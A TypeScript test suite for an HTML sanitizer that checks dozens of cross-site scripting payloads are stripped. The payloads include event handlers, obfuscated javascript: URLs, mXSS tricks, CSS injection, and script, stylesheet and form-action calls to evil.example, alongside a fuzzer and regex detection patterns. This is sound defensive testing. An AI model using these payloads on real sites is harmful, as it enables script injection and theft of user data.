/* eslint-disable no-control-regex -- the cases check what becomes of control characters */
import { describe, expect, it } from 'vitest'
import { ALLOWED_ELEMENTS, sanitizeHtml } from './sanitize-html'

/** [what it tries, input, exact expected output] */
const CASES: [string, string, string][] = [
  // Event handlers and script elements
  ['img onerror', '<img src=x onerror=alert(1)>', '<img src="x">'],
  ['handlers on any element', '<p onclick="a()" onmouseover=b ONLOAD=c>Hi</p>', '<p>Hi</p>'],
  ['script', '<b>ok</b><script>alert(1)</script>', '<b>ok</b>'],
  [
    'script, any case, with attributes',
    '<ScRiPt src="//evil.example/x.js"></SCRIPT >after',
    'after',
  ],
  ['script end tag inside a string', '<script>var s = "</scr" + "ipt>"; alert(1)</script>', ''],
  ['svg onload', '<svg/onload=alert(1)>', ''],
  [
    'svg with script inside',
    '<svg><script>alert(1)</script><a href="x">in svg</a></svg>after',
    'after',
  ],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  [
    'noscript mXSS',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img src="x">"&gt;',
  ],
  ['template', '<template><img src=x onerror=alert(1)></template>kept', 'kept'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>', ''],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>">fallback</iframe>', ''],
  [
    'object and embed',
    '<object data="x.swf"><param name=a value=b>fallback</object><embed src="x.swf">',
    '',
  ],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>', ''],
  [
    'style element',
    '<style>@import "//evil.example/x.css"; body{display:none}</style>text',
    'text',
  ],
  [
    'textarea, title, xmp',
    '<textarea><img src=x onerror=1></textarea><title><img src=x onerror=1></title><xmp><img src=x onerror=1></xmp>',
    '',
  ],
  ['plaintext swallows the rest', 'a<plaintext><img src=x onerror=1></plaintext>b', 'a'],
  ['broken tag before script', '<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['double angle', '<<script>alert(1)//<</script>', '&lt;'],
  ['quotes as an attribute name', '<img """><script>alert(1)</script>">', '<img>"&gt;'],
  ['unterminated tag is dropped', 'before<img src=x onerror=alert(1)//', 'before'],
  ['unterminated quoted value', 'before<img src="x onerror=alert(1)>', 'before'],
  // Comments and other markup
  ['comment', 'a<!--<img src=x onerror=alert(1)>-->b', 'ab'],
  ['abrupt comment <!-->', '<!--><img src=x onerror=alert(1)>', '<img src="x">'],
  ['comment closed by --!>', '<!--x--!><b>b</b>', '<b>b</b>'],
  ['unclosed comment', 'a<!--<b>', 'a'],
  ['conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->ok', 'ok'],
  ['doctype and processing instruction', '<!DOCTYPE html><?xml version="1.0"?>ok', 'ok'],
  [
    'CDATA is a bogus comment in HTML',
    '<p><![CDATA[<img src=x onerror=alert(1)>]]></p>',
    '<p>]]&gt;</p>',
  ],
  // URLs
  ['javascript: href', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['mixed case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
  ['leading space and controls', '<a href=" \u0001javascript:alert(1)">x</a>', '<a>x</a>'],
  ['tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>', '<a>x</a>'],
  ['tab as a character reference', '<IMG SRC="jav&#x09;ascript:alert(1);">', '<img>'],
  ['&Tab; and &colon;', '<a href="java&Tab;script&colon;alert(1)">x</a>', '<a>x</a>'],
  [
    'decimal references',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a>x</a>',
  ],
  [
    'references without semicolons, zero-padded',
    '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
    '<a>x</a>',
  ],
  ['hex reference', '<a href="&#x6A;avascript:alert(1)">x</a>', '<a>x</a>'],
  ['NUL inside the scheme', '<a href="java\u0000script:alert(1)">x</a>', '<a>x</a>'],
  ['data: URL', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['vbscript: URL', '<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
  [
    'img src with an unknown scheme',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<img alt="0">',
  ],
  [
    'img src is http(s) or relative only',
    '<img src="mailto:a@b.example"><img src="/p.png"><img src="https://cdn.example/p.png">',
    '<img><img src="/p.png"><img src="https://cdn.example/p.png">',
  ],
  [
    'first of duplicate attributes wins',
    '<a href="javascript:alert(1)" href="https://shop.example/">x</a>',
    '<a>x</a>',
  ],
  [
    'allowed link schemes',
    '<a href="mailto:shop@example.com">m</a><a href="tel:+4930123">t</a><a href="//cdn.example/x">n</a><a href="/sale?a=1&amp;b=2#top">p</a>',
    '<a href="mailto:shop@example.com">m</a><a href="tel:+4930123">t</a><a href="//cdn.example/x">n</a><a href="/sale?a=1&amp;b=2#top">p</a>',
  ],
  [
    'target=_blank gets noopener',
    '<a href="https://shop.example" target=_BLANK rel="nofollow evil">x</a>',
    '<a href="https://shop.example" target="_blank" rel="nofollow noopener noreferrer">x</a>',
  ],
  ['other targets are dropped', '<a href="/" target="_top">x</a>', '<a href="/">x</a>'],
  // Attributes that are not scripts but still harmful
  [
    'id, name and data-* clobber the page',
    '<img id="stammis" name="location" data-stammis-slot="hero" src="/x.png">',
    '<img src="/x.png">',
  ],
  ['style with url()', '<div style="background:url(javascript:alert(1))">x</div>', '<div>x</div>'],
  [
    'style spelled with references',
    '<div style="position&colon;fixed;inset:0">x</div>',
    '<div>x</div>',
  ],
  ['style with a CSS escape', '<div style="background: u\\72l(x)">x</div>', '<div>x</div>'],
  ['style with expression()', '<div style="width: expression(alert(1))">x</div>', '<div>x</div>'],
  [
    'an overlay over the page',
    '<a href="https://evil.example" style="position: fixed; inset: 0; z-index: 99999">Pay</a>',
    '<a href="https://evil.example">Pay</a>',
  ],
  [
    'harmless style is kept',
    '<p style="color: #c00; font-weight: bold">Sale</p>',
    '<p style="color: #c00; font-weight: bold">Sale</p>',
  ],
  [
    'quotes in a value stay inside it',
    '<div title="&quot;><img src=x onerror=alert(1)>">x</div>',
    '<div title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</div>',
  ],
  // Forms and other active elements
  [
    'form, button, input',
    '<form action="https://evil.example"><input name=card><button formaction="https://evil.example">Pay</button></form>',
    'Pay',
  ],
  [
    'base, meta, link',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel=stylesheet href="//evil.example/x.css">ok',
    'ok',
  ],
  ['media with handlers', '<video><source onerror="alert(1)">Your browser</video>', 'Your browser'],
  [
    'body and custom elements keep their text',
    '<body onload=alert(1)><shop-widget onclick=x>Hi</shop-widget></body>',
    'Hi',
  ],
  ['select is dropped with its options', 'a<select><option>1</option></select>b', 'ab'],
  // What marketers write
  ['text is escaped', '5 < 6 & 7 > 3', '5 &lt; 6 &amp; 7 &gt; 3'],
  [
    'character references in text are kept',
    'Caf&eacute; &amp; more: &#8364;5 &hearts;',
    'Caf&eacute; &amp; more: &#8364;5 &hearts;',
  ],
  [
    'references in attributes are decoded and re-escaped',
    '<img alt="Caf&eacute; &amp; &euro; &spades;" src="/x.png">',
    '<img alt="Café &amp; € &amp;spades;" src="/x.png">',
  ],
  ['unclosed tags are closed', '<b>bold <i>both', '<b>bold <i>both</i></b>'],
  ['stray end tags are dropped', '</div>text</b>', 'text'],
  ['misnested tags are balanced', '<b><i>x</b>y</i>', '<b><i>x</i></b>y'],
  [
    'tables',
    '<table><tr><td colspan=2 rowspan="x" onclick=a>cell</td></tr></table>',
    '<table><tr><td colspan="2">cell</td></tr></table>',
  ],
  [
    'details',
    '<details open ontoggle=alert(1)><summary>More</summary>x</details>',
    '<details open=""><summary>More</summary>x</details>',
  ],
  [
    'aria and role',
    '<div role="note" aria-label="Sale" aria-x-y="no">x</div>',
    '<div role="note" aria-label="Sale">x</div>',
  ],
  [
    'a banner',
    '<div class="promo"><h2>Welcome back!</h2><p>10% off with <strong>BACK10</strong>.</p><a href="https://shop.example/sale" class="button">Shop now</a></div>',
    '<div class="promo"><h2>Welcome back!</h2><p>10% off with <strong>BACK10</strong>.</p><a href="https://shop.example/sale" class="button">Shop now</a></div>',
  ],
  [
    'prototype names are not elements',
    '<constructor>x</constructor><__proto__>y</__proto__><a title="&constructor;">z</a>',
    'x&lt;__proto__&gt;y<a title="&amp;constructor;">z</a>',
  ],
]

/**
 * An independent check of the output: Cloudflare's HTMLRewriter (a real HTML tokenizer, lol-html)
 * reads it back, and every element, attribute and URL it finds must be harmless.
 */
async function dangersFoundByRewriter(html: string): Promise<string[]> {
  const found: string[] = []
  const allowed = new Set(ALLOWED_ELEMENTS)
  const unescape = (value: string) =>
    value
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&')
  await new HTMLRewriter()
    .on('*', {
      element(element) {
        if (!allowed.has(element.tagName)) found.push(`element <${element.tagName}>`)
        for (const [name = '', raw = ''] of element.attributes) {
          if (/^on|^id$|^name$|^data-|^srcdoc$|^formaction$|^action$/.test(name))
            found.push(`attribute ${name} on <${element.tagName}>`)
          const value = unescape(raw)
            .replace(/[\u0000-\u0020]/g, '')
            .toLowerCase()
          if (/^(href|src|cite)$/.test(name) && /^(javascript|data|vbscript|file):/.test(value))
            found.push(`${name}=${raw}`)
          if (name === 'style' && /url\(|expression|position/.test(value))
            found.push(`style=${raw}`)
        }
      },
    })
    .onDocument({
      comments(comment) {
        found.push(`comment ${comment.text}`)
      },
    })
    .transform(new Response(html))
    .text()
  return found
}

describe('sanitizeHtml', () => {
  it.each(CASES)('%s', async (_what, input, expected) => {
    const output = sanitizeHtml(input)
    expect(output).toBe(expected)
    expect(await dangersFoundByRewriter(output)).toEqual([])
    expect(sanitizeHtml(output)).toBe(output)
  })

  it('the rewriter check finds what it looks for (so its empty answers mean something)', async () => {
    expect(
      await dangersFoundByRewriter(
        '<img src=x onerror=a()><a href="java&#x73;cript:x" id=y>x</a><script>1</script><!--c-->',
      ),
    ).toEqual([
      'attribute onerror on <img>',
      'attribute id on <a>',
      'element <script>',
      'comment c',
    ])
    expect(await dangersFoundByRewriter('<a href="javascript:x">x</a>')).toEqual([
      'href=javascript:x',
    ])
  })

  it('leaves nothing harmful in 2,000 random mixes of markup fragments (seeded, so failures repeat)', async () => {
    const fragments = [
      '<',
      '>',
      '/',
      '=',
      '"',
      "'",
      ' ',
      '\t',
      '\n',
      '\u0000',
      '<!--',
      '-->',
      '--!>',
      '<!',
      '<?',
      '</',
      '<!-->',
      ']]>',
      'a',
      'img',
      'script',
      'style',
      'svg',
      'math',
      'noscript',
      'textarea',
      'template',
      'iframe',
      'p',
      'b',
      'div',
      'xmp',
      'plaintext',
      ' src=',
      ' href=',
      ' onerror=',
      ' onload=',
      ' style=',
      ' title=',
      ' id=',
      ' target=',
      ' srcdoc=',
      ' formaction=',
      'javascript:',
      'java',
      'script:',
      '&#',
      'x6A;',
      '&#106',
      '&colon;',
      '&Tab;',
      '&quot;',
      '&amp;',
      '&lt;',
      'alert(1)',
      'position:fixed',
      'url(x)',
      'data:',
      '//evil.example',
      // Whole openings, so that dangerous values land where they count
      '<a href=',
      '<a href="',
      "<img src='",
      '<img src=',
      '<a target=_blank href=',
      '<div style="',
      '<p title="',
      '<q cite=',
      'javascript:alert(1)>',
      'JaVa&#x53;cript:x',
      ' java\tscript:',
      'vbscript:',
      'data:text/html,',
      '&#0000106avascript:',
    ]
    let seed = 9
    const random = () => {
      seed = (seed + 0x6d2b79f5) | 0
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296
    }
    for (let round = 0; round < 2000; round++) {
      const input = Array.from(
        { length: 5 + Math.floor(random() * 40) },
        () => fragments[Math.floor(random() * fragments.length)],
      ).join('')
      const output = sanitizeHtml(input)
      expect({ input, dangers: await dangersFoundByRewriter(output) }).toEqual({
        input,
        dangers: [],
      })
      expect({ input, again: sanitizeHtml(output) }).toEqual({ input, again: output })
    }
  })

  it('reads 50,000-character values of the worst kinds (a quadratic tokenizer would time this test out)', () => {
    for (const unit of [
      '<a ',
      '<!',
      '</',
      '<<',
      '&#',
      '<b>',
      '</b>',
      '<a href="x">',
      '<script>',
      '<!--',
    ]) {
      const output = sanitizeHtml(unit.repeat(Math.floor(50_000 / unit.length)))
      expect(output).not.toMatch(/<(?!\/?(a|b)[ >])/)
      expect(sanitizeHtml(output)).toBe(output)
    }
  })
})
